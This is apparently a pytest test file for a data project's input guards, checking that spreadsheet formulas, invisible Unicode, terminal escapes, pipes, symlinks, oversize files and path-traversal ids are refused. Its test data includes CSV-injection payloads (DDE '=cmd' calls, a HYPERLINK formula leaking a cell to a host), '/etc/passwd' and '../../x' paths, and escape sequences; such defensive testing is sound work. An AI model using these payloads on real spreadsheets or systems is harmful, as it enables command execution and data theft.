"""Hostile input, in this process: cells that a spreadsheet would run, letters that nobody sees, files that are no files."""

from __future__ import annotations

import os
import time
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import Copy
from tieout.characters import control, formula, named, unseen
from tieout.checks import FORM
from tieout.facts import Fact
from tieout.figures.files import table
from tieout.figures.plan import Plan
from tieout.pages.marking import _stretches
from tieout.problems import Usage
from tieout.record import Record, load
from tieout.schema import COUNTRY, DOCUMENT_FILES, SHARED
from tieout.tables import MOST_ROWS, read_table, table_text, write_table

SCHEMAS = SHARED | COUNTRY | DOCUMENT_FILES
FREE = [(name, field.name) for name, schema in SCHEMAS.items() for field in schema.fields if not (field.enum or field.pattern)]
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"354")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "Brussels;=1+1",
    "Brussels; @SUM(1)",
    "Brussels\t-1+1",
]
UNSEEN = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200c", "\u200d", "\u200e",
          "\u200f", "\u2060", "\ufeff", "\u00ad", "\u061c", "\u2028", "\u2029", "\u3164", "\ufe0f", "\ue000", "\U000e0041", "\ufffe",
          "\t", "\n", "\r", "\x1b", "\x00", "\x9b"]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_run_is_a_formula(cell: str) -> None:
    assert formula(cell)


@pytest.mark.parametrize(
    "cell", ["", "-12", "-0.5", "354", "12 - 7 = 5", "a=b", "mail@example.org", "– 12 cases", "−5", "A; and so on", "'='"]
)
def test_numbers_and_prose_are_no_formulas(cell: str) -> None:
    assert not formula(cell)


@pytest.mark.parametrize("letter", UNSEEN, ids=lambda letter: f"U+{ord(letter):04X}")
def test_a_letter_without_ink_is_found_and_named(letter: str) -> None:
    assert unseen(f"35{letter}4") == letter
    assert unseen(f"35{letter}4", allowed=letter) == ""
    assert named(letter).startswith(f"U+{ord(letter):04X} (")


@pytest.mark.parametrize("words", ["", "€1.38 million", "victims’ “access” – 49 ²⁵ …", "Ružička, Łódź, Ελλάδα, 日本"])
def test_plain_words_are_seen(words: str) -> None:
    assert unseen(words) == control(words) == ""


@given(st.text())
def test_no_text_makes_the_guards_raise(text: str) -> None:
    formula(text)
    assert all(named(letter) for letter in (control(text), unseen(text)) if letter)


# --- the check ----------------------------------------------------------------------------------------------------------


def with_cell(record: Record, name: str, column: str, cell: str) -> Record:
    """The record with one cell of the first row of a kind replaced; a file without rows gets one."""
    document = "tip-2025" if name in DOCUMENT_FILES else ""
    rows = record.rows(name) or (replace(record.rows("faults")[0], cells=dict.fromkeys(SCHEMAS[name].columns, ""), document=document),)
    spoiled = replace(rows[0], cells=rows[0].cells | {column: cell})
    return replace(record, tables=record.tables | {name: (spoiled, *rows[1:])})


def found(record: Record) -> list:
    return list(FORM["cells"][1](record))


def test_the_real_record_holds_none(belgium: Record) -> None:
    assert found(belgium) == []


@pytest.mark.parametrize(("name", "column"), FREE)
def test_a_formula_in_any_free_column_is_refused(belgium: Record, name: str, column: str) -> None:
    for cell in FORMULAS[:5]:
        (failure,) = found(with_cell(belgium, name, column, cell))
        assert (failure.check, failure.column, failure.value) == ("cells", column, cell)
        assert "a spreadsheet would run" in failure.message


@pytest.mark.parametrize(("name", "column"), FREE)
def test_a_letter_that_nobody_sees_is_refused_in_any_free_column(belgium: Record, name: str, column: str) -> None:
    for letter in ("\u202e", "\u200b", "\ufeff"):
        (failure,) = found(with_cell(belgium, name, column, f"some{letter}thing"))
        assert failure.column == column and named(letter) in failure.message and "at character 5" in failure.message


def test_a_digit_of_another_script_is_no_digit_of_ours(belgium: Record) -> None:
    for column in ("value", "start", "note"):
        (failure,) = found(with_cell(belgium, "metrics", column, "1\u0662"))
        assert "U+0662 (ARABIC-INDIC DIGIT TWO)" in failure.message


@pytest.mark.parametrize("letter", ["\u202e", "\u200b", "\u00ad", "\t"])
def test_a_quote_keeps_what_its_source_has_and_nothing_else(record_of, letter: str) -> None:
    quote = f"There were 7{letter} cases"
    rows = {"metrics": [{"id": "doc-1-001", "printed": "7", "quote": quote}], "set_aside": [{"printed": quote, "context": quote}]}
    assert found(record_of(f"{quote} in 2030.", **rows)) == []
    assert {failure.column for failure in found(record_of("There were 7 cases in 2030.", **rows))} == {"quote", "printed", "context"}
    noted = {"metrics": [{"id": "doc-1-001", "printed": "7", "quote": "There were", "note": letter}]}
    assert [failure.column for failure in found(record_of(f"{quote} in 2030.", **noted))] == ["note"]


# --- what is written ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_file_of_ours_is_written_with_a_formula(tmp_path: Path, cell: str) -> None:
    with pytest.raises(Usage, match="note holds"):
        write_table(tmp_path / "t.csv", ("id", "note"), [{"id": "a", "note": "plain"}, {"id": "b", "note": cell}])
    assert not (tmp_path / "t.csv").exists()


def test_no_figure_is_written_with_a_formula() -> None:
    plan = Plan("f", "victims", Fact("figure-f", "Told."), "", [{"id": "a", "label": "=1+1"}], (), "", "")
    with pytest.raises(Usage, match=r"f\.csv is not written: label holds '=1\+1'"):
        table(plan)


def test_nothing_is_written_through_a_link(tmp_path: Path) -> None:
    (tmp_path / "real").write_text("precious")
    (tmp_path / "t.csv").symlink_to(tmp_path / "real")
    with pytest.raises(Usage, match="symbolic link"):
        write_table(tmp_path / "t.csv", ("id",), [{"id": "a"}])
    assert (tmp_path / "real").read_text() == "precious"


# --- files that are no files, and files that are too much --------------------------------------------------------------


def refused(path: Path, columns: tuple[str, ...] = ("id", "note"), within: float = 10) -> str:
    """The one message with which a table is refused, soon."""
    began = time.monotonic()
    found, failures = read_table(path, "data/t.csv", columns)
    assert time.monotonic() - began < within
    assert found.rows == () and len(failures) == 1
    return failures[0].message


def test_a_pipe_a_device_a_folder_and_a_link_are_no_tables(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "device.csv").symlink_to("/dev/zero")
    (tmp_path / "loop.csv").symlink_to(tmp_path / "loop.csv")
    (tmp_path / "folder.csv").mkdir()
    for path in sorted(tmp_path.iterdir()):
        assert "not there as a plain file" in refused(path), path.name


def test_a_table_in_a_linked_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "t.csv").write_text("id,note\n")
    (tmp_path / "data").symlink_to(tmp_path / "real")
    assert "not there as a plain file" in refused(tmp_path / "data" / "t.csv")


def test_a_cell_of_100_megabytes_is_refused_by_its_size(tmp_path: Path) -> None:
    with (tmp_path / "t.csv").open("wb") as file:
        file.write(b'id,note\na,"')
        file.truncate(100 * 2**20)
    assert "larger than 20 MiB" in refused(tmp_path / "t.csv", within=2)


def test_a_cell_of_3_megabytes_is_refused(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_bytes(b"id,note\na," + b"x" * 3 * 2**20)
    assert "field larger than field limit" in refused(tmp_path / "t.csv")


@pytest.mark.parametrize("row", [b",\n", b"x\n", b'"",""\n'])
def test_a_million_rows_are_refused(tmp_path: Path, row: bytes) -> None:
    (tmp_path / "t.csv").write_bytes(b"id,note\n" + row * 1_000_000)
    assert f"more than {MOST_ROWS} rows" in refused(tmp_path / "t.csv")


def test_as_many_rows_as_may_be_are_read(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_bytes(b"id,note\n" + b"a,b\n" * MOST_ROWS)
    found, failures = read_table(tmp_path / "t.csv", "t.csv", ("id", "note"))
    assert (len(found.rows), failures) == (MOST_ROWS, [])


@pytest.mark.parametrize("letter", ["\x1b", "\x08", "\x7f", "\x9b"])
def test_a_table_that_would_drive_a_terminal_is_refused(tmp_path: Path, letter: str) -> None:
    (tmp_path / "t.csv").write_text(f"id,note\na,b\nc,{letter}[2J\n", encoding="utf-8")
    assert f"U+{ord(letter):04X}" in refused(tmp_path / "t.csv")


def spoil(path: Path, how: str) -> None:
    """Put something else in the place of a seed."""
    path.rename(path.with_suffix(".old"))
    if how == "pipe":
        os.mkfifo(path)
    elif how in ("link", "device", "loop"):
        path.symlink_to({"link": path.with_suffix(".old"), "device": Path("/dev/zero"), "loop": path}[how])
    elif how == "folder":
        path.mkdir()
    elif how == "large":
        path.write_bytes(b"words " * (5 * 2**20))
    else:
        path.write_bytes(
            {"binary": b"\x7fELF\x02\x01\x00\x00", "zeros": b"\x00" * 999, "escape": b"\x1b]0;owned\x07 7", "latin": b"\xe9"}[how]
        )


@pytest.mark.parametrize("how", ["pipe", "link", "device", "loop", "folder", "large", "binary", "zeros", "escape", "latin"])
def test_a_seed_that_is_no_text_is_named_and_nothing_hangs(copy_root: Copy, how: str) -> None:
    spoil(copy_root.seed("tip-2004"), how)
    began = time.monotonic()
    record = copy_root.load()
    assert time.monotonic() - began < 10
    assert "tip-2004" not in record.texts
    assert [problem.where for problem in record.problems] == ["seeds/bel/tip-2004.txt"]
    told = {
        "large": "larger than any report",
        "latin": "is not UTF-8",
        "binary": "control character",
        "zeros": "U+0000",
        "escape": "U+001B",
    }
    assert told.get(how, "is no plain file") in record.problems[0].message


def test_a_seed_in_a_linked_folder_is_refused(copy_root: Copy) -> None:
    folder = copy_root.root / "seeds" / "bel"
    folder.rename(copy_root.root / "elsewhere")
    folder.symlink_to(copy_root.root / "elsewhere")
    record = copy_root.load()
    assert record.texts == {} and len(record.problems) == len(record.documents)


@pytest.mark.parametrize(
    "document", ["../../x", "tip-2025/../..", "/etc/passwd", "a" * 300 + "-1", "a-" + "1" * 300, "a-1\n", "tip-2025\u200b", "a-１"]
)
def test_an_id_that_is_a_path_reads_nothing_and_is_refused(copy_root: Copy, document: str) -> None:
    rows = copy_root.rows("documents")
    rows[0] |= {"document": document, "seed": f"seeds/bel/{document}.txt"}
    path = copy_root.path("documents")
    path.write_text(table_text(COUNTRY["documents"].columns, rows), encoding="utf-8", newline="")
    record = copy_root.load()
    assert document not in record.texts and len(record.texts) == len(rows) - 1
    assert "document" in {failure.column for failure in FORM["schema"][1](record)}


def test_a_seed_elsewhere_is_never_opened(copy_root: Copy) -> None:
    copy_root.alter("documents", "tip-2004", seed="/etc/passwd")
    failures = [failure for name in ("register", "schema") for failure in FORM[name][1](copy_root.load())]
    assert {failure.column for failure in failures} == {"seed"}
    assert copy_root.load().texts["tip-2004"].text.startswith(copy_root.seed("tip-2004").read_text("utf-8")[:100])


@pytest.mark.parametrize("country", ["../bel", "BEL", "b*l", "", "be\x00", "bel\n", "ｂｅｌ", "x" * 5000])
def test_a_country_that_is_a_path_is_no_country(copy_root: Copy, country: str) -> None:
    with pytest.raises(Usage, match="There is no country"):
        load(country, copy_root.root)


# --- time ---------------------------------------------------------------------------------------------------------------


@given(st.text(alphabet="a\n \t\u2028\u00a0", max_size=20))
def test_blocks_hold_every_character_of_the_text(text: str) -> None:
    assert "".join(text[start:end] + after for start, end, after in _stretches(text)) == text


def test_a_source_of_blanks_is_parted_in_no_time() -> None:
    began = time.monotonic()
    assert len(list(_stretches("a" + " " * 200_000 + "b"))) == 1
    assert time.monotonic() - began < 2
